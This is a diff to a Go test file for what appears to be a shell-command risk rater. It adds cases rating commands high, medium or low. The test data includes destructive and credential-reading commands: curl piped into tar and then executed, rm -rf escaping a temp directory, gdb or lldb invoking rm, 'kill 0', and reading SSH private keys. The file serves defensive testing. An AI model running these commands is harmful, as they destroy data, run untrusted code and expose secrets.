@@ -150,6 +150,12 @@ func TestRiskOfEverydayChores(t *testing.T) {
 	}
 	rated(t, "high", "t=$(mktemp -d); curl http://x | tar xz -C $t; cd $t; make", "curl http://x | tar xz -C b && cd b && make",
 		"t=$(mktemp -d); cd $t; curl http://x | tar xz; make", `t=$(mktemp -d); curl http://x | tar xz -C "$t"; "$t/a"`)
+	rated(t, "high", each(`t=$(mktemp); t+=/../../a; rm -rf $t|"$t", t=$(mktemp); declare t+=/../a; rm "$t", t=$(mktemp); t[0]=a; rm $t,
+		t=$(mktemp); t=(a); rm $t, mktemp()\ {\ echo\ a;\ }; t=$(mktemp); rm $t, f()\ {\ t=$1;\ }; t=$(mktemp); f a; rm -r $t,
+		gdb -batch -ex 'r\ -rf\ a' rm|/bin/rm, gdb -batch -ex run sh|python3|/usr/bin/a|xargs, lldb -b -o run -- rm|sh|node|env a,
+		lldb -b -o 'r\ a' ~/x, xargs -a f kill 0|$!, mapfile -t a < <(find\ ~\ -name\ id_rsa); cat "${a[@]}"`)...)
+	rated(t, "high", "echo 1 | xargs kill 0", `readarray -t a < <(ls ~/.ssh/id_rsa); head "$a"`)
+	rated(t, "medium", each(`lldb -b -o run -- ./a b, gdb -batch -ex bt build/a core`)...)
 	rated(t, "low", each(`read -rp 'x?\ ' a < b, mapfile|readarray -t a < b, mapfile -d '' a < b`)...)
 	rated(t, "high", each(`t=$(mktemp); t=~;|t=src; rm -rf "$t", t=$(mktemp); read t; rm -rf "$t", t=$(mktemp); rm -rf "$t"/../*|$t/..|"$t/"*,
 		t=$(mktemp\ -p\ .)|$(mktemp\ --tmpdir=a)|$(mktemp;\ x)|$(mktemp)a; rm -rf "$t", if x; then t=$(mktemp); fi; rm -rf "$t", t=$(mktemp); mv src $t; rm $t,
